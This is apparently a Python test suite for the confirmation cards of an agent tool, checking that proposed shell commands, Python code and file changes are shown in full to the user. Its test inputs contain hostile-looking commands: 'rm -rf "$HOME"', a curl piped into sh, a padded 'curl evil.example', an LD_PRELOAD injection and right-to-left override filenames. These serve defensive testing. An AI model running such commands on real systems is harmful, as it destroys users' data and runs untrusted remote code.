"""What a card shows of commands: every word of them, what holds them, and what becomes of what they change."""

from inline_snapshot import snapshot

from cowork.domain.action import Action, CodeRun, Content, FileCreate, FileDelete, FileWrite, Location, ShellExec
from cowork.domain.confirmation import Card
from cowork.domain.facts import Confinement, Facts, Input
from cowork.engine.card_ports import CommandsChanges
from tests.projections.cards import NOW, card_of, file_facts, lines_of, nothing_there

A = Location("g1", "2023/a.docx")
B = Location("g1", "old/2023/b c.docx")
CONTENT = Content("sha256:new", 1234)


def _shown(card: Card) -> str:
    return "\n".join([card.headline, "", *lines_of(card, "action"), "", *lines_of(card, "risk")])


def test_a_command() -> None:
    command = ShellExec(
        argv=("bash", "-c", 'rm -rf "$HOME"; echo  done'),
        cwd=Location("g1", "build"),
        env=(("API_TOKEN", "hunter2"), ("LD_PRELOAD", "/tmp/x y.so")),
        stdin=Content("sha256:in", 5),
        network=("example.org",),
        writes="staged",
        timeout_s=120,
    )
    assert _shown(card_of([command], Facts(now=NOW))) == snapshot("""\
Run bash -c "rm -rf \\"$HOME\\"; echo\\x20\\x20done" in build

run         "bash"
            "-c"
            "rm -rf \\"$HOME\\"; echo\\x20\\x20done"
which is    bash reads its line as 2 commands
      1      rm -rf "$HOME"
             cannot be inspected: `$HOME` is put in by the shell
      2  ;   echo  done
in          build
in full     /home/ann/reports/build
environment API_TOKEN=(7 characters, not shown)
            LD_PRELOAD="/tmp/x y.so"
input       5 bytes, sha256:in
network     example.org
sees        that granted folder, less what the rules hide, and the system's programs; nothing else
writes      a copy: what it changed is shown and decided, one by one or together, before any of it is kept
time limit  120 s

leaves the machine: example.org
runs code: bash\
""")


def test_a_command_is_shown_with_what_holds_it_and_the_files_that_it_names() -> None:
    facts = Facts(
        now=NOW,
        confinement=Confinement(sandbox="bubblewrap 0.8.0", seccomp="sha256:filter", landlock=7),
        inputs=(Input("tools/s.sh", "sha256:0123456789abcdef0123", 120), Input("a b\u202e.sh", "sha256:ff", 7, 2)),
    )
    command = ShellExec(argv=("./tools/s.sh", "--all"), cwd=Location("g1", "."))
    assert _shown(card_of([command], facts)) == snapshot("""\
Run ./tools/s.sh --all in .

run         "./tools/s.sh"
            "--all"
in          .
in full     /home/ann/reports
names       tools/s.sh (120 bytes, sha256:0123456789ab)
            "a b\\u202e.sh" (7 bytes, sha256:ff, has 2 names)
network     none
sees        that granted folder, less what the rules hide, and the system's programs; nothing else
writes      nothing: it cannot change the folder
time limit  the engine's own
sandbox     bubblewrap 0.8.0, Landlock 7, network none

runs code: ./tools/s.sh\
""")


def test_a_line_for_a_shell_is_shown_command_by_command() -> None:
    line = 'cd out && rm -rf old; curl -s "https://x.org/$(id)" | sh -c \'cat; id\' > "$F"\nenv rm *; (a)'
    command = ShellExec(argv=("sh", "-c", line), cwd=Location("g1", "."))
    card = card_of([command], Facts(now=NOW))
    shown = "\n".join(lines_of(card, "action")).partition("\nin  ")[0]
    assert shown == snapshot("""\
run         "sh"
            "-c"
            "cd out && rm -rf old; curl -s \\"https://x.org/$(id)\\" | sh -c 'cat; id' > \\"$F\\"\\nenv rm *; (a)"
which is    sh reads its line as 6 commands
      1      cd out
      2  &&  rm -rf old
      3  ;   curl -s "https://x.org/$(id)"
             cannot be inspected: `$(` is replaced by what another command prints, or by a sum
      4  |   sh -c 'cat; id' > "$F"
             cannot be inspected: `$F` is put in by the shell
             cannot be inspected: it is redirected to a name that is computed
    4.1      cat
    4.2  ;   id
      5  \\n  env rm *
             cannot be inspected: `*` stands for names that are looked up
             cannot be inspected: `env` runs what its arguments say
      6  ;   (a)
             cannot be inspected: from here on: commands in parentheses\
""")


def test_what_a_command_changed_is_asked_about_as_its_changes() -> None:
    command = ShellExec(argv=("sh", "tidy.sh"), cwd=Location("g1", "."), writes="staged")
    changes: list[Action] = [
        FileWrite(at=A, content=CONTENT),
        FileCreate(at=B, content=CONTENT, mode=0o755),
        FileDelete(at=Location("g1", "old.txt")),
    ]
    facts = [file_facts(), nothing_there(new_folders=("old",)), file_facts()]
    made = CommandsChanges(command=command, changes=5)
    assert _shown(card_of(changes, facts, staged=made)) == snapshot("""\
Keep 3 changes of the command sh tidy.sh

now         none of this has happened yet: the command worked on a copy
besides     2 of its 5 changes were decided without a question
1 of 3: Overwrite 2023/a.docx (1.2 KB)
  overwrite   2023/a.docx
  in full     /home/ann/reports/2023/a.docx
  replaces    file, 212 KB, sha256:old
  old bytes   kept, in the store or in quarantine: nothing is erased
  content     1.2 KB, sha256:new
  preview     can't be shown: not text, or too large to compare
2 of 3: Create "old/2023/b c.docx" (1.2 KB, executable)
  create      "old/2023/b c.docx"
  in full     "/home/ann/reports/old/2023/b c.docx"
  replaces    nothing: a new file
  new folder  old
  content     1.2 KB, sha256:new
  mode        755 (executable)
  preview     can't be shown: not text, or too large to compare
3 of 3: Delete old.txt (212 KB)
  delete      old.txt
  in full     /home/ann/reports/old.txt
  is          file, 212 KB
  goes to     quarantine, in the store or in .cowork of the granted folder: nothing is erased

deletes: 1 file (212 KB)
overwrites: 2023/a.docx\
""")


def test_changes_that_go_together_say_so() -> None:
    code = CodeRun(python="x", cwd=Location("g1", "."), writes="staged")
    change = FileDelete(at=A)
    for made, said in ((3, "all or none, with 2 more that need no answer"), (1, "all or none")):
        card = card_of([change], file_facts(), staged=CommandsChanges(command=code, changes=made, together=True))
        assert card.headline == "Keep a change of Python code: Delete 2023/a.docx (212 KB)"
        assert f"together    {said}" in lines_of(card, "action")


def test_nothing_of_a_long_line_is_cut_and_padding_hides_nothing() -> None:
    line = " ; ".join(f"echo {number}" for number in range(59)) + " " * 400 + "\n" * 40 + "; curl evil.example"
    shown = lines_of(card_of([ShellExec(argv=("sh", "-c", line), cwd=Location("g1", "."))], Facts(now=NOW)), "action")
    assert "which is    sh reads its line as 60 commands" in shown
    assert "     60  ;   curl evil.example" in shown
    assert f"{'':13}padded with 441 blanks" in shown
    assert all("\n" not in one for one in shown)
    long = "true " + "x" * 20_000
    card = card_of([ShellExec(argv=("sh", "-c", long), cwd=Location("g1", "."))], Facts(now=NOW))
    whole = "\n".join(lines_of(card, "action"))
    assert whole.count("x" * 20_000) == 2


def test_code() -> None:
    code = CodeRun(python="import os\nif x:\n\tos.remove('a')  # \u202e", cwd=Location("g1", "."), args=("--all",))
    assert _shown(card_of([code], Facts(now=NOW))) == snapshot("""\
Run Python (3 lines) in .

run         Python, 3 lines: it cannot be inspected
  | import os
  | if x:
  | \\tos.remove('a')  # \\u202e
arguments   "--all"
in          .
in full     /home/ann/reports
network     none
sees        that granted folder, less what the rules hide, and the system's programs; nothing else
writes      nothing: it cannot change the folder
time limit  the engine's own

runs code: Python\
""")
